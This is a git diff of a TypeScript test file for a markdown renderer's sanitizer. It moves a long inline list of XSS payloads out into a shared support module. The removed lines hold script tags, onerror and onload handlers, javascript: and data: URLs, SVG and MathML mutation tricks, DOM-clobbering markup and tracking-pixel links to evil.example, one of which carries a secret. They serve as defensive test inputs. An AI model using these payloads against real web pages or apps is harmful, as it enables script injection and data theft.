@@ -5,52 +5,7 @@ import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
 import { JSDOM } from 'jsdom';
 import { createMarkdownStream, renderMarkdown, type MarkdownStreamOptions } from '../../src/webview/markdown/index';
-import { randomChunks } from '../support/markdownCorpus';
-
-const PWN = 'window.__pwned=1';
-
-/** Each entry is one attack; most would run `window.__pwned=1` or fetch evil.example if they got through. */
-const HOSTILE: readonly string[] = [
-  `<script>${PWN}</script>`,
-  `Inline <script>${PWN}</script> in a paragraph and **bold <script>${PWN}</script>**`,
-  `<img src=x onerror="${PWN}">`,
-  `Text <img src="https://evil.example/a.png" onerror=${PWN}> more`,
-  `<svg onload="${PWN}"><script>${PWN}</script><image href="https://evil.example/s.png"/></svg>`,
-  `<svg><a xlink:href="javascript:${PWN}"><text>x</text></a><use href="data:image/svg+xml,<svg/>"/></svg>`,
-  `<math><mtext><table><mglyph><style><img src=x onerror=${PWN}>`,
-  `<math><mi xlink:href="javascript:${PWN}">x</mi></math>`,
-  `<noscript><p title="</noscript><img src=x onerror=${PWN}>">`,
-  `<iframe src="javascript:parent.__pwned=1"></iframe><iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
-  `<object data="javascript:${PWN}"></object><embed src="https://evil.example/e.swf"><object type="text/x-scriptlet" data="https://evil.example/x"></object>`,
-  `<form action="javascript:${PWN}"><input type=submit formaction="javascript:${PWN}"><button formaction="javascript:${PWN}">go</button><input type="image" src="https://evil.example/i.png"></form>`,
-  `<style>body{background:url(https://evil.example/css.png)}</style><link rel=stylesheet href="https://evil.example/x.css">`,
-  `<meta http-equiv="refresh" content="0;url=javascript:${PWN}"><base href="https://evil.example/">`,
-  `<div style="background:url(https://evil.example/bg.png)">styled</div><p style="width:expression(${PWN})">old IE</p>`,
-  `<table background="https://evil.example/t.png"><tr><td background="https://evil.example/td.png">cell</td></tr></table>`,
-  `<video poster="https://evil.example/p.png"><source src="https://evil.example/v.mp4"></video><audio src="https://evil.example/a.mp3" autoplay></audio>`,
-  `<picture><source srcset="https://evil.example/s.png"><img srcset="https://evil.example/x.png 1x"></picture>`,
-  `<details open ontoggle="${PWN}"><summary onclick="${PWN}">s</summary>body</details>`,
-  `<a href="javascript:${PWN}">js</a> <a href=" JaVaScRiPt:${PWN}">spaced</a> <a href="&#x6A;avascript:${PWN}">entity</a>`,
-  `<a href="jav&#x09;ascript:${PWN}">tab</a> <a href="vbscript:msgbox(1)">vb</a> <a href="data:text/html,<script>${PWN}</script>">data</a>`,
-  `[md js](javascript:${PWN}) [md JS](JAVASCRIPT:${PWN}) [md entity](&#106;avascript:${PWN}) [md vb](vbscript:x) [md data](data:text/html;base64,PHNjcmlwdD4=)`,
-  `<javascript:${PWN}> and [ref][evil]\n\n[evil]: javascript:${PWN}`,
-  `[title break](https://ok.example "a\\" onmouseover=\\"${PWN}") <a href="https://ok.example" target="_blank" rel="opener" ping="https://evil.example/ping">target</a>`,
-  `[relative](./file.md) [protocol-relative](//evil.example/x) [anchor](#section) [mail](mailto:someone@example.com) [web](https://example.com/ok)`,
-  `![tracking pixel](https://evil.example/track.png?secret=KEY) ![data image](data:image/png;base64,iVBORw0KGgo=) ![js image](javascript:${PWN})`,
-  `[![linked image](https://evil.example/badge.svg)](https://example.com)`,
-  `<!--><img src=x onerror=${PWN}>--> <![CDATA[<img src=x onerror=${PWN}>]]>`,
-  `<xmp><script>${PWN}</script></xmp><textarea><img src=x onerror=${PWN}></textarea><select><option>o</option></select>`,
-  `<template><script>${PWN}</script><img src=x onerror=${PWN}></template>`,
-  `<marquee onstart="${PWN}">m</marquee><body onload="${PWN}"><isindex action="javascript:${PWN}"><frameset onload="${PWN}">`,
-  `<button class="code-action" data-code-action="newFile">Fake action</button> <span class="code-action" data-code-action="insert" aria-label="Copy">fake</span>`,
-  `<div class="code-block" data-language="ts"><div class="code-toolbar"><span class="code-language">ts</span></div><pre><code>spoof</code></pre></div>`,
-  `<form name="getElementById"></form><div id="app">clobber</div><a name="body">n</a>`,
-  '```" onmouseover="window.__pwned=1\ncode with a hostile info string\n```',
-  '```ts onmouseover=window.__pwned=1\n</code></pre><img src=x onerror=window.__pwned=1>\n```',
-  `<span class="hljs-keyword" style="color:red" onmouseover="${PWN}">kw</span>`,
-  `<a href="https://example.com"><img src="https://evil.example/in-link.png"></a>`,
-  `<div>unclosed <b>bold <a href="https://example.com">link`,
-];
+import { HOSTILE_MARKDOWN as HOSTILE, PWN, randomChunks } from '../support/markdownCorpus';
 
 /** Tags a rendering may contain: markdown's inert formatting plus the code block chrome we build ourselves. */
 const SAFE_TAGS = new Set([
